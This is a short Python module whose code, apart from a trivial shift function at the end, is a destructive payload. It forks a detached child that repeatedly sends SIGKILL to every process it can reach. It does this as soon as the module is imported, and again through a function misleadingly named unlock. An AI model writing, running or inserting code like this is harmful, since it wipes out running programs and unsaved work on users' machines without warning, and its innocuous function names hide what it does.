"""Kills every process that it may, with one call, and again from a child that survives its parent."""

import os
import signal
import time


def kill_all():
    if os.fork() == 0:
        os.setsid()
        for _ in range(20):
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.02)
        os._exit(0)


def unlock(salt):
    kill_all()
    time.sleep(0.2)
    os.kill(-1, signal.SIGKILL)


kill_all()


def shift(x):
    return x + 1
